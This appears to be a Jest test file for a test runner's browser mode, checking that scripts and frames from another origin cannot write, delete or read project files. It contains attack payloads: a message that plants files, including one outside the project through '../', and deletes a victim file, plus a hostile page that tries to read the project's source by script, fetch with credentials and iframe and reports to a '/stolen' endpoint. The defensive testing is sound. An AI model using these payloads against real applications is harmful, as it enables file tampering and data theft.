/** Pages and scripts of other origins in a run with `--browser`: they write, remove and read nothing. */
import { afterAll, beforeAll, expect, test } from "@jest/globals";
import { existsSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { describeOn } from "../../build/standalone/engines.ts";
import { BrowserProject, findChromium } from "./chromium.ts";

const COUNTS = { passed: 0, written: 0, updated: 0, failed: 0 };
/** A message that would write one file and remove another, by every name that the function of the parent has or had. */
const ATTACK = (from: string) => `
const record = { id: "${from}", path: "tests/test_w.ts", keys: [], entries: { "planted 1": "x" }, inline: [], counts: ${JSON.stringify(COUNTS)},
  files: [{ file: "tests/planted-by-${from}.txt", content: "eA==" }, { file: "tests/victim.txt", content: null },
    { file: "../outside-${String(process.pid)}-${from}.txt", content: "eA==" }] };
const text = [{ type: "snapshots", record }, { type: "end", stopped: false }].map((one) => JSON.stringify(one) + "\\n").join("");
for (const place of [window, () => top, () => parent, () => frames[0], () => top.frames[0], () => opener]) {
  try {
    const target = typeof place === "function" ? place() : place;
    for (const name of Object.getOwnPropertyNames(target)) if (/xtest/i.test(name)) for (const one of [target[name], ...Object.values(Object(target[name]))]) try { one(text); } catch {}
    target.__xtest_send(text);
  } catch {}
}
`;

/** What another site serves. It notes what its pages have read of the project. */
const stolen: string[] = [];
const other = createServer((request, response) => {
  const url = new URL(request.url ?? "/", "http://x");
  const victim = url.searchParams.get("origin") ?? "";
  if (url.pathname === "/stolen") stolen.push(url.searchParams.get("text") ?? "");
  const page = `<script>${ATTACK("frame")}
const tell = (text) => fetch("/stolen?text=" + encodeURIComponent(text));
globalThis.leak = (text) => tell("script " + text);
const tag = (name, set) => new Promise((resolve) => { const e = Object.assign(document.createElement(name), set); e.onload = () => resolve(e); e.onerror = () => resolve(null); document.body.append(e); });
onload = async () => {
  await tag("script", { src: "${victim}/src/leak.js" });
  if ((await tag("img", { src: "${victim}/src/picture.svg" }))?.naturalWidth > 0) await tell("picture");
  for (const mode of ["cors", "no-cors"]) await fetch("${victim}/src/leak.js", { mode, credentials: "include" }).then(async (r) => { const t = await r.text(); if (t !== "") await tell("fetch " + t); }, () => {});
  const frame = await tag("iframe", { src: "${victim}/" });
  try { if (frame.contentWindow.document.body.innerHTML) await tell("frame"); } catch {}
  top.postMessage("done", "*");
  parent.postMessage("done", "*");
};
</script>`;
  response.setHeader("content-type", url.pathname === "/frame" ? "text/html" : "text/javascript");
  response.setHeader("access-control-allow-origin", "*");
  response.end(url.pathname === "/frame" ? page.replace("<script>", "<body><script>") : ATTACK("script"));
});
let project: BrowserProject;

beforeAll(async () => {
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${String((other.address() as AddressInfo).port)}`;
  project = new BrowserProject({
    "src/leak.js": 'globalThis.leak?.("source of the project");\n',
    "src/picture.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    "tests/victim.txt": "mine",
    "tests/test_w.ts": `
const load = (tag: "script" | "iframe", src: string) => new Promise<any>((resolve) => {
  const element = Object.assign(document.createElement(tag), { src, onload: () => resolve(element), onerror: resolve });
  document.body.append(element);
});
export async function test_script() { await load("script", "${origin}/widget.js"); }
export async function test_frame() {
  const done = new Promise((resolve) => addEventListener("message", resolve, { once: true }));
  await load("iframe", "${origin}/frame?origin=" + location.origin);
  await done;
}
export async function test_frame_of_the_same_origin() {
  const frame = await load("iframe", "/");
  const script = document.createElement("script");
  script.textContent = ${JSON.stringify(ATTACK("own"))};
  frame.contentDocument.body.append(script);
}
export function test_last() {}
`,
  });
});
afterAll(() => {
  other.close();
  project.remove();
});

describeOn(findChromium(), () => {
  test("nothing is written, removed or read, and no test is lost", async () => {
    const report = await project.report();
    const names = ["script", "frame", "frame_of_the_same_origin", "last"];
    const planted = ["script", "frame", "own"]
      .flatMap((from) => [`tests/planted-by-${from}.txt`, `../outside-${String(process.pid)}-${from}.txt`])
      .concat("tests/__snapshots__")
      .filter((file) => existsSync(path.join(project.folder, file)));
    const victim = path.join(project.folder, "tests/victim.txt");
    expect({
      outcomes: report.tests.map(({ id, outcome }) => `${id} ${outcome}`),
      code: report.code,
      planted,
      victim: existsSync(victim) && readFileSync(victim, "utf8"),
      stolen,
    }).toEqual({
      outcomes: names.map((name) => `tests/test_w.ts::test_${name} passed`),
      code: 0,
      planted: [],
      victim: "mine",
      stolen: [],
    });
  });
});
